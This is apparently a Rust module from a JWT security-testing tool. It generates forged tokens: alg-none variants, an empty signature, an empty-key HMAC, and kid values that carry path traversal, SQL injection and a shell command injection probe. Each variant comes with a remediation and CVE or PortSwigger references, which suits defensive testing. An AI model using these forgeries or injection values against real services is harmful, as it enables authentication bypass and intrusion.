//! Forgeries that need no key at all: alg none, a null signature, an empty HMAC key, and
//! kid values that reach a file path, an SQL query or a shell.

use super::{AttackError, Draft, Group, Original, compact, hmac, json_str};
use crate::core::alg::JwsAlg;

/// The four spellings of `none` that filters comparing case-sensitively miss.
pub(super) const NONE_SPELLINGS: [&str; 4] = ["none", "None", "NONE", "nOnE"];

const NONE_REF: &str = "PortSwigger Web Security Academy lab \"JWT authentication bypass via flawed signature verification\", https://portswigger.net/web-security/jwt/lab-jwt-authentication-bypass-via-flawed-signature-verification; Tim McLean, \"Critical vulnerabilities in JSON Web Token libraries\" (2015), https://auth0.com/blog/critical-vulnerabilities-in-json-web-token-libraries/";
const NONE_MUST: &str = "Reject it: the server must verify with an allow-list of algorithms it chose itself (never the header's alg) and never accept none, in any letter case, with or without a signature.";

/// `alg` set to each spelling of none, signature stripped and signature kept: 8 variants.
pub(super) fn alg_none(orig: &Original, out: &mut dyn FnMut(Draft)) -> Result<(), AttackError> {
    for spelling in NONE_SPELLINGS {
        let header = orig.header_with(&[("alg", json_str(spelling))])?;
        let head = crate::core::b64::encode(header.as_bytes());
        out(
            Draft::new(
                format!("alg-none-{spelling}-stripped"),
                Group::AlgNone,
                format!("alg \"{spelling}\", signature stripped"),
                super::dotted(&[&head, &orig.payload_segment, ""]),
            )
            .text(
                format!(
                    "The header says alg \"{spelling}\" (an unsecured JWS, RFC 7515 section A.5) and the signature segment is empty, so a library that lets the token choose its algorithm skips verification and trusts the claims. Odd spellings such as \"{spelling}\" get past filters that only compare with \"none\" case-sensitively."
                ),
                NONE_MUST,
                NONE_REF,
            ),
        );
        out(
            Draft::new(
                format!("alg-none-{spelling}-kept-signature"),
                Group::AlgNone,
                format!("alg \"{spelling}\", old signature kept"),
                super::dotted(&[&head, &orig.payload_segment, &orig.signature_segment]),
            )
            .text(
                format!(
                    "The header says alg \"{spelling}\" but the original signature segment stays in place: some servers insist that a signature is present yet never check it once the algorithm is none, and some proxies drop tokens with an empty third segment."
                ),
                NONE_MUST,
                NONE_REF,
            ),
        );
    }
    Ok(())
}

/// The original header and payload with an empty signature segment.
pub(super) fn null_signature(orig: &Original) -> Draft {
    let token = super::dotted(&[&orig.header_segment, &orig.payload_segment, ""]);
    Draft::new(
        "null-signature",
        Group::NullSignature,
        format!("{} kept, signature segment empty", orig.alg),
        token,
    )
    .text(
        format!(
            "Header and payload are untouched ({} stays the algorithm) and the signature is empty. A verifier that compares the expected signature with the given one over the given one's length compares nothing and succeeds (ServiceStack's JWT provider did exactly this).",
            orig.alg
        ),
        "Reject it: the signature must have the algorithm's exact length and be compared in full, in constant time.",
        "CVE-2020-28042 (ServiceStack before 5.9.2 accepted an empty JWT signature), https://www.shielder.com/advisories/servicestack-jwt-signature-verification-bypass/",
    )
}

/// HS256 MACed with an empty key.
pub(super) fn empty_key(orig: &Original) -> Result<Draft, AttackError> {
    let header = orig.header_with(&[("alg", json_str("HS256"))])?;
    let input = format!(
        "{}.{}",
        crate::core::b64::encode(header.as_bytes()),
        orig.payload_segment
    );
    let mac = hmac(JwsAlg::HS256, &[], input.as_bytes());
    Ok(Draft::new(
        "empty-hmac-key",
        Group::EmptyKey,
        "HS256 with an empty secret",
        compact(&header, &orig.payload_segment, &mac),
    )
    .text(
        "The token is switched to HS256 and MACed with a zero-length key. A server whose secret is unset (an empty environment variable, a missing configuration entry) verifies it as genuine.",
        "Reject it: refuse to start with an empty or short HMAC secret, and never accept HS256 where the service issues asymmetric tokens.",
        "CVE-2019-20933 (InfluxDB before 1.7.6 accepted JWTs signed with an empty shared secret), https://nvd.nist.gov/vuln/detail/CVE-2019-20933",
    ))
}

const KID_MUST: &str = "Reject it: kid must only select a key from the server's own list of trusted keys (an exact lookup); it must never reach a file path, an SQL query or a shell, and an unknown kid is a rejection.";

/// One kid injection: id, name, kid value, the key it selects, explanation, reference.
type KidCase = (
    &'static str,
    &'static str,
    &'static str,
    &'static [u8],
    &'static str,
    &'static str,
);

/// kid values that reach a file path, an SQL query and a shell, MACed with what they select.
pub(super) fn kid_injection(
    orig: &Original,
    out: &mut dyn FnMut(Draft),
) -> Result<(), AttackError> {
    let cases: [KidCase; 3] = [
        (
            "kid-path-traversal",
            "kid path traversal to /dev/null, HS256 with an empty key",
            "../../../../../../dev/null",
            b"",
            "The kid climbs out of the key folder to /dev/null. A server that reads the HMAC key from a file named by kid reads zero bytes, and this token is MACed with exactly that empty key.",
            "PortSwigger Web Security Academy lab \"JWT authentication bypass via kid header path traversal\", https://portswigger.net/web-security/jwt/lab-jwt-authentication-bypass-via-kid-header-path-traversal",
        ),
        (
            "kid-sql-injection",
            "kid SQL injection selecting the key \"key\", HS256",
            "' UNION SELECT 'key' --",
            b"key",
            "The kid closes a string in an SQL query and unions in a constant. A server that looks keys up with SELECT ... WHERE kid = '<kid>' built by string concatenation gets back the key \"key\", and this token is MACed with exactly that.",
            "PortSwigger Web Security Academy, \"JWT attacks\", section on the kid parameter, https://portswigger.net/web-security/jwt",
        ),
        (
            "kid-command-injection",
            "kid command injection (|sleep 10), HS256 with an empty key",
            "key.pem|sleep 10",
            b"",
            "A probe, not a forgery: the kid carries a shell pipe. If the server passes kid to a shell (to read or convert a key file), its response comes about 10 seconds late; the signature is only an empty-key HMAC. Time the response against your own service, never against anyone else's.",
            "PortSwigger Web Security Academy, \"JWT attacks\", section on the kid parameter, https://portswigger.net/web-security/jwt; OWASP Web Security Testing Guide, Testing JSON Web Tokens",
        ),
    ];
    for (id, name, kid, key, explanation, reference) in cases {
        let header = orig.header_with(&[("alg", json_str("HS256")), ("kid", json_str(kid))])?;
        let input = super::dotted(&[
            &crate::core::b64::encode(header.as_bytes()),
            &orig.payload_segment,
        ]);
        let mac = hmac(JwsAlg::HS256, key, input.as_bytes());
        out(Draft::new(
            id,
            Group::KidInjection,
            name,
            compact(&header, &orig.payload_segment, &mac),
        )
        .text(explanation, KID_MUST, reference));
    }
    Ok(())
}
